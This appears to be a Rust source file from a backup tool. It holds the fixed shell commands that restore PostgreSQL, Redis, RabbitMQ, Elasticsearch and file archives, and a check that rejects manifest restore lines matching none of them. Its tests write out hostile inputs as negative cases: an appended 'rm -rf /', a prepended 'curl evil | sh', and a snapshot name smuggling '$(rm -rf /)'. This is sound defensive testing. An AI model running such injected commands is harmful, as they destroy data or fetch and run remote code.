//! The commands that restore what is taken, with standard tools alone.
//!
//! All of them stand here, so that a line in a manifest that comes from none of them is noticed: whoever can write into
//! a store could have put it there.

use super::manifest::File;
use super::piece::Restore;

/// A command that restores a sort of file: it is given the name of the file, or reads it from its input.
#[derive(Clone, Copy, Debug)]
pub enum Recipe {
    /// The name stands in place of `{}`.
    Named(&'static str),
    /// It reads the file from its input.
    Fed(&'static str),
}

use Recipe::{Fed, Named};

/// A dump of `PostgreSQL` in custom format: the database itself is made, with its encoding, its settings and what is
/// granted on it. Where there is one of its name, nothing happens. Even `postgres` may be what is to be made anew.
pub const DUMP: Recipe = Named("pg_restore --create --exit-on-error -j 4 -d template1 {}");
/// The same as SQL, which makes the database too.
pub const SQL: Recipe = Fed("psql -X -v ON_ERROR_STOP=1 -d template1");
/// Roles and settings of a `PostgreSQL` server: those that exist already are no failure.
pub const ROLES: Recipe = Fed("psql -X -d postgres");
/// A base backup.
pub const BASE: Recipe = Fed("tar -x -C EMPTY_DATA_DIRECTORY");
/// A snapshot of Redis. On a copy, where nobody else asks: a server that keeps an append-only file ignores a snapshot,
/// and one that saves, or is asked to, overwrites it.
pub const SNAPSHOT: Recipe = Named(
    "d=$(mktemp -d) && cp {} \"$d/dump.rdb\" && \
     redis-server --bind 127.0.0.1 --port 6390 --appendonly no --save '' --dir \"$d\" --dbfilename dump.rdb",
);
/// An append-only file of Redis with its manifest.
pub const APPENDONLY: Recipe = Fed("tar -xpf - -C EMPTY_DATA_DIRECTORY");
/// The users of Redis.
pub const USERS: Recipe = Named("install -m 600 {} /etc/redis/users.acl && redis-cli ACL LOAD");
/// The settings of Redis.
pub const SETTINGS: Recipe = Named("install -m 640 {} /etc/redis/redis.conf");
/// Definitions of `RabbitMQ`.
pub const DEFINITIONS: Recipe = Fed("rabbitmqctl import_definitions");
/// A list of the queues of `RabbitMQ`: what definitions hold under that name.
pub const QUEUES: Recipe = Named("(printf '{\"queues\":'; cat {}; printf '}') | rabbitmqctl import_definitions");
/// An archive of files.
pub const FILES: Recipe = Fed("tar -xpf - -C EMPTY_FOLDER");
/// Documents of Elasticsearch, two lines each.
pub const DOCUMENTS: Recipe = Fed("split -l 2000 --filter='curl -sf -H content-type:application/x-ndjson \
     --data-binary @- \"$ELASTICSEARCH/_bulk\" >/dev/null'");
/// How the indexes of Elasticsearch are set up.
pub const INDEXES: Recipe =
    Fed("jq -c 'to_entries[] | [.key, (.value | del(.settings.index[\"uuid\", \"version\", \"creation_date\", \
     \"provided_name\"]))]' | while IFS= read -r index; do printf '%s' \"$index\" | jq -c '.[1]' | \
     curl -sf -X PUT -H content-type:application/json --data-binary @- \
     \"$ELASTICSEARCH/$(printf '%s' \"$index\" | jq -r '.[0] | @uri')\" >/dev/null; done");
/// What Elasticsearch keeps itself; the snapshot has its name there.
const DEPOSIT: Recipe = Named(
    "curl -fX POST \"$ELASTICSEARCH/_snapshot/$(jq -r '.repository | @uri' {})/{snapshot}\
     /_restore?wait_for_completion=true\"",
);
/// What a command put out.
pub const OUTPUT: Recipe = Fed("cat");

const ALL: [Recipe; 15] = [
    DUMP,
    SQL,
    ROLES,
    BASE,
    SNAPSHOT,
    APPENDONLY,
    USERS,
    SETTINGS,
    DEFINITIONS,
    QUEUES,
    FILES,
    DOCUMENTS,
    INDEXES,
    DEPOSIT,
    OUTPUT,
];

/// Where the name of a snapshot stands.
const SNAPSHOT_NAME: &str = "{snapshot}";

/// Restores a snapshot that Elasticsearch keeps under this name.
pub fn deposit(snapshot: &str) -> Restore {
    match DEPOSIT.into() {
        Restore::Named(command) => Restore::Named(command.replace(SNAPSHOT_NAME, snapshot)),
        Restore::Fed(command) => Restore::Fed(command),
    }
}

impl From<Recipe> for Restore {
    fn from(recipe: Recipe) -> Restore {
        match recipe {
            Named(command) => Restore::Named(command.to_owned()),
            Fed(command) => Restore::Fed(command.to_owned()),
        }
    }
}

/// Whether the line that a manifest tells for a file is one that this version would write for it.
pub(super) fn is_known(file: &File) -> bool {
    let is_sealed = !file.encrypted_to.is_empty();
    let lines = ALL.iter().map(|recipe| File::restore_line(&(*recipe).into(), &file.key, file.packing, is_sealed));
    lines.into_iter().any(|line| match line.split_once(SNAPSHOT_NAME) {
        None => line == file.restore,
        Some((before, after)) => {
            let name = file.restore.strip_prefix(before).and_then(|rest| rest.strip_suffix(after));
            let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte);
            name.is_some_and(|name| name.bytes().all(is_plain))
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::vault::{Packing, Sort, Sum};

    fn file(restore: String) -> File {
        File {
            key: "postgres/daily/a.dump".to_owned(),
            holds: Sort::Dump,
            stored: Sum { bytes: 0, sha256: String::new() },
            packing: Packing::None,
            encrypted_to: Vec::new(),
            inside: None,
            handed_over: 0,
            restore,
            command: None,
        }
    }

    #[test]
    fn each_line_that_is_written_is_known_and_nothing_else() {
        let line = |restore: &Restore| File::restore_line(restore, "postgres/daily/a.dump", Packing::None, false);
        for recipe in ALL.iter().filter(|recipe| !matches!(recipe, Named(it) if it.contains(SNAPSHOT_NAME))) {
            let line = line(&(*recipe).into());
            assert!(is_known(&file(line.clone())), "{line}");
            assert!(!is_known(&file(format!("{line}; rm -rf /"))), "{line}");
            assert!(!is_known(&file(format!("curl evil | sh; {line}"))), "{line}");
        }
        assert!(is_known(&file(line(&deposit("lifeboat-2026.11.23_0")))));
        assert!(!is_known(&file(line(&deposit("a/$(rm -rf /)")))));
        let sealed = File::restore_line(&DUMP.into(), "postgres/daily/a.dump", Packing::None, true);
        assert!(!is_known(&file(sealed.clone())), "it is not encrypted");
        assert!(is_known(&File { encrypted_to: vec!["age1…".to_owned()], ..file(sealed) }));
    }
}
